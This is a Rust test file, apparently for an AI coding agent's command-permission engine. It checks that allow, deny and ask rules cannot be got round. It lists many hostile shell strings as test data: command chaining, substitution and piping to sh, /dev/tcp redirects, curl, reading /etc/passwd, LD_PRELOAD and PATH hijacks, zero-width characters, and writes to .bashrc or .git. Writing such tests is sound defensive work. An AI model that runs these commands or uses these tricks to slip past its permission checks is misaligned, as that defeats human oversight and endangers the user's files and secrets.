    let world = World::new(Rules { allow: &["Bash"], deny: &["Read(a/secret)"], ask: &[] });
    assert_ne!(world.verdict("Bash diff a b"), Allow);
    assert_ne!(world.verdict("Bash diff b a"), Allow);
    assert_eq!(world.verdict("Bash diff c d"), Allow);
}

#[test]
fn a_prefix_rule_covers_only_its_program() {
    check_never_allowed(
        &World::new(allow(&["Bash(npm run:*)"])),
        &[
            "npm run test > /dev/tcp/x/1",
            "npm run test <(rm x)",
            "npm run test\nrm x",
            "LD_PRELOAD=x npm run test",
            "PATH=. npm run test",
            "npm run test;rm x",
            "npm run test 2> x",
            "npm run test &",
            "npm run test | sh",
            "npm run `rm x`",
            "npm run \"$(rm x)\"",
            "npm run {a,$(rm x)}",
            "./npm run test",
            "/tmp/npm run test",
            "npm exec run",
            "npm --prefix /x run test",
            "sudo npm run test",
            "env -S 'rm x' npm run test",
            "npm run test || curl x",
            "npm run test && cd /etc && cat passwd",
            "npm\u{200b} run test",
            "npm run test <<EOF\n$(rm x)\nEOF",
            "watch npm run test",
            "find . -exec npm run test ;",
        ],
    );
}

#[test]
fn variables_do_not_lead_around_a_scoped_deny() {
    let commands = [
        "Bash PATH=dir ls",
        "Bash export PATH=dir:$PATH && ls",
        "Bash BASH_ENV=x bash y",
        "Bash LD_PRELOAD=./x ls",
        "Bash make SHELL=/bin/rm",
        "Bash SHELL=rm make",
        "Bash make --eval=x",
    ];
    for rules in [
        Rules { allow: &["Bash"], deny: &["Bash(rm:*)"], ask: &[] },
        Rules { allow: &["Bash"], deny: &[], ask: &["Bash(rm:*)"] },
    ] {
        for mode in [PermissionMode::Default, PermissionMode::BypassPermissions] {
            let world = World::in_mode(mode, rules);
            for command in commands {
                assert_ne!(world.verdict(command), Allow, "{mode} {command}");
            }
            world.check(
                Allow,
                &[
                    "Bash make",
                    "Bash CC=clang make",
                    "Bash PATH=$PATH:/opt/x/bin tool",
                    "Bash RUST_LOG=debug cargo test",
                    "Bash while IFS= read -r line; do echo $line; done < x",
                ],
            );
        }
    }
    let denied = World::new(Rules { allow: &["Bash"], deny: &["Bash(rm:*)"], ask: &[] });
    denied.check(Deny, &["Bash make SHELL=/bin/rm", "Bash CC='rm -f' make", "Bash GIT_PAGER='rm x' git log"]);
    // Without such a rule there is no question.
    World::new(allow(&["Bash"])).check(Allow, &commands);
    World::new(Rules { allow: &["Bash"], deny: &["Read(secret)"], ask: &[] }).check(Allow, &commands);
}

#[test]
fn listing_and_unpacking_stay_inside() {
    let world = World::new(Rules::default()).link("/w/out.gz", "/etc/out.gz").link("/w/x.zip.zip", "/etc/x.zip");
    check_never_allowed(
        &world,
        &[
            "zcat ../x.gz",
            "zcat out.gz",
            "zcat /etc/x.gz",
            "gzip -dc ~/x.gz",
            "xz -l /var/x.xz",
            "tar tf /etc/x.tar",
            "tar tf ../x.tar",
            "tar --list --file=/etc/x.tar",
            "unzip -l ../x.zip",
            // `unzip` reads this file if there is no `x.zip`.
            "unzip -l x.zip",
            "fd x /etc",
            "fd -e rs . ..",
            "iconv -f latin1 -t utf-8 /etc/passwd",
            "shuf /etc/passwd",
            "pr ../x",
            "base32 /etc/passwd",
            "tsort /etc/passwd",
            "grep --exclude-from=/etc/passwd -r x .",
            "tail -n 1 /etc/*.conf",
            "find . -newermm /etc/passwd",
            "git check-attr -a ../x",
            "git range-diff /etc a b",
            "zcat x.gz > y",
            "tar tf x.tar > y",
            "ls | xargs echo > y",
            "cd .. && tar tf x.tar",
        ],
    );
    let denied = World::new(deny(&["Read(x.gz)", "Read(x.tar)", "Read(keys/**)"]));
    denied.check(Deny, &["Bash zcat x.gz", "Bash tar tf x.tar", "Bash gzip -dc x.gz"]);
    for command in ["Bash iconv -f latin1 keys/a", "Bash tail -n1 keys/*.log"] {
        assert_ne!(denied.verdict(command), Allow, "{command}");
    }
    World::new(Rules::default()).check(Allow, &["Bash zcat x.gz | head", "Bash tar tf x.tar", "Bash unzip -l x.zip"]);
}

#[test]
fn accepting_edits_stops_at_the_workspace() {
    let world =
        World::in_mode(PermissionMode::AcceptEdits, Rules::default()).link("/w/out", "/etc").link("/w/up", "/w");
    check_never_allowed(
        &world,
        &[
            "rm -rf ../x",
            "cp -r . /tmp",
            "mv ../x .",
            "mv a ../x",
            "touch a /etc/x",
            "sed -i 's/x/y/w /etc/x' a",
            "sed -i 's/a/b/e' a",
            "sed -i.bak s/a/b/ /etc/x",
            "cp /etc/passwd .",
            "ln -s / x",
            "touch -r /etc/x a",
            "cd .. && touch x",
            "cd out && touch x",
            "touch out/x",
            "rm -r out/x",
            "rm -rf up",
            "mv x .git",
            "cp a .git/",
            "cp -t .git a",
            "cp -r a .GIT",
            "mkdir .claude",
            "touch .bashrc",
            "rm *",
            "rm -rf .*",
            "mv evil sub/.git",
            "cp .env .vscode/x",
            "echo x > out/y",
            "echo x > ../y",
            "chmod +x a",
            "touch $x",
            "mkdir -p a/../../x",
            "echo x >> .npmrc",
            "cd src && echo x > y",
        ],
    );
}

/// A copy only reads its sources.
#[test]
fn what_is_copied_from_a_protected_place_is_only_read() {
    let reads = ["Bash cp .git/config x", "Bash cp -r .vscode/a x && ls", "Bash cp .env x"];
    let world = World::in_mode(PermissionMode::AcceptEdits, Rules::default());
    // A copy from a place of secrets is a secret, too.
    world.check(Ask, &["Bash cp .git/config x", "Bash cp .env x"]);
    world.check(Allow, &["Bash cp -r .vscode/a x && ls", "Bash cp .git/description x"]);
    let world = World::in_mode(PermissionMode::BypassPermissions, Rules::default());
    world.check(Allow, &reads);
    world.check(
        Ask,
        &[
            "Bash cp .git/config .git/x",
            "Bash cp -r .vscode sub",
            // In a directory it keeps its name.
            "Bash cp .bashrc y",
            "Bash mv .bashrc x",
            "Bash cp .bashrc x; (cp x .bashrc)",
            "Bash cp .git/config x > .bashrc",
            "Bash cp .git/a x && bash -c 'cp .git/a x > .bashrc'",
            "Bash cp --backup .git/config x",
        ],
    );
}

#[test]
fn rules_that_are_empty_or_never_match_are_reported_with_what_to_write() {
    let root = Path::new("/w");
    for (rule, fix) in [
        ("Bash()", "write `Bash`"),
        ("Bash( )", "write `Bash`"),
        ("Bash(:*)", "write `Bash`"),
        ("Bash( :* )", "write `Bash`"),
        ("Bash(! *)", "write `Bash`"),
        ("Read()", "write `Read`"),
        ("Edit(\t)", "write `Edit`"),
        ("Agent( )", "write `Agent`"),
        ("Skill(:*)", "write `Skill`"),
        ("Skill(/)", "write `Skill`"),
        ("WebFetch(domain:)", "write `WebFetch(domain:example.com)`"),
        ("mcp__a__b()", "write `mcp__a__b`"),
        ("Bash(FOO=1 x:*)", "write it without"),
        ("Bash(PATH=* x)", "write it without"),
        ("Bash(cd x && rm:*)", "write a rule for each command"),
        ("Bash(echo x > y:*)", "write a rule for each command"),
    ] {
        for behavior in [Deny, Ask, Allow] {
            let mut policy = Policy::new(PolicyConfig::new(root));
            let added = policy.add_rules(RuleSource::UserSettings, behavior, &[rule], root);
            match behavior {
                Allow => {
                    let warnings = added.unwrap();
                    let warning = warnings.first().unwrap_or_else(|| panic!("{rule} warns of nothing"));
                    assert!(warning.ignored && warning.to_string().contains(fix), "{rule} {warning}");
                }
                _ => {
                    let error = added.expect_err(rule).to_string();
                    assert!(error.contains(fix) && error.contains(&rule.trim().replace('\t', "\\t")), "{rule} {error}");
                }
            }
        }
    }
    // An answer of a host brings no such rule either.
    for content in ["", " ", ":*", "FOO=1 x:*"] {
        for behavior in [Deny, Allow] {
            let rules = vec![RuleValue::new("Bash", content)];
            let update = PermissionUpdate::AddRules { rules, behavior, destination: UpdateDestination::Session };
            assert!(Policy::new(PolicyConfig::new(root)).apply(&update).is_err(), "{content:?}");
        }
    }
    for rule in ["Bash", "Bash(*)", "Bash( * )", "Read(*)", "Skill(*)", "Bash(FOO=1 x)", "Bash(! rm:*)", "Bash(a && b)"]
    {
        for behavior in [Deny, Ask, Allow] {
            let added =
                Policy::new(PolicyConfig::new(root)).add_rules(RuleSource::UserSettings, behavior, &[rule], root);
            assert_eq!(added.unwrap(), [], "{rule}");
        }
    }
}

#[test]
fn an_exact_rule_covers_its_very_text() {
    for (rule, covered, not_covered) in [
        ("Bash(npm x \"a*b\" f)", "npm x \"a*b\" f", ["npm x a*b f", "npm x \"axb\" f"]),
        ("Bash(npm x 'a' \\\\*)", "npm x 'a' \\*", ["npm x a \\*", "npm x 'a' y"]),
        ("Bash(FOO=1 npm x)", "FOO=1 npm x", ["npm x", "FOO=2 npm x"]),
        ("Bash(npm $\\(x\\))", "npm $(x)", ["npm x", "npm $(y)"]),
    ] {
        let world = World::new(allow(&[rule]));
        world.check(Allow, &[format!("Bash {covered}").as_str()]);
        world.check(Ask, &not_covered.map(|text| format!("Bash {text}")).each_ref().map(String::as_str));
        let world = World::in_mode(PermissionMode::BypassPermissions, deny(&[rule]));
        world.check(Deny, &[format!("Bash {covered}").as_str()]);
    }
    let world = World::in_mode(PermissionMode::BypassPermissions, deny(&["Bash(npm x \"a*b\")", "Bash(FOO=1 y)"]));
    world.check(Deny, &["Bash npm x 'a*b'", "Bash ls; npm x a\\*b", "Bash ls && FOO=1 y", "Bash ! FOO=1 y"]);
    world.check(Allow, &["Bash npm x axb", "Bash y"]);
}

#[test]
fn a_negated_command_is_judged_as_the_command() {
    let world = World::new(allow(&["Bash(npm test:*)"]));
    world.check(Allow, &["Bash ! grep -q x f", "Bash ! npm test", "Bash ls && ! grep x f | wc -l", "Bash !\tls"]);
    world.check(Ask, &["Bash ! npm x", "Bash ls | ! npm test", "Bash !npm test", "Bash ! rm x", "Bash ! ! ls"]);
    let world = World::in_mode(PermissionMode::BypassPermissions, deny(&["Bash(rm:*)", "Bash(! dd *)"]));
    world.check(Deny, &["Bash ! rm x", "Bash ! ! rm x", "Bash ls && ! rm x", "Bash dd if=x", "Bash ! dd if=x"]);
}

/// A path written from a directory that is no longer followed may be protected.
#[test]
fn lines_that_change_the_directory_too_often_ask_before_they_write() {
    let changes = "cd a; cd b; cd c; cd d; cd e; cd f; cd g; cd h; cd .git";
    let names: String = (0..1000).map(|number| format!(" n{number}")).collect();
    let many = format!("cd .git; cd sub; touch{names}");
    let world = World::in_mode(PermissionMode::BypassPermissions, Rules::default());
    let bash = |lines: &[String]| lines.iter().map(|line| format!("Bash {line}")).collect::<Vec<_>>();
    let asks = [
        format!("{changes}; touch config"),
        format!("{changes} && echo x > config"),
        format!("({changes}; cp a config)"),
        format!("{changes}; bash -c 'tee config'"),
        many,
    ];
    for line in bash(&asks) {
        world.check(Ask, &[&line]);
    }
    let free = [
        format!("{changes}; cat config"),
        format!("{changes}; ls"),
        format!("{changes}; touch /tmp/x"),
        format!("cd .git; cd sub; cat{names}"),
        format!("touch{names}"),
    ];
    for line in bash(&free) {
        world.check(Allow, &[&line]);
    }
    let denies = World::in_mode(PermissionMode::BypassPermissions, deny(&["Read(.git/config)", "Read(//tmp/secret)"]));
    denies.check(Ask, &[&format!("Bash {changes}; cat config")]);
    denies.check(Deny, &[&format!("Bash {changes}; cat /tmp/secret")]);
}
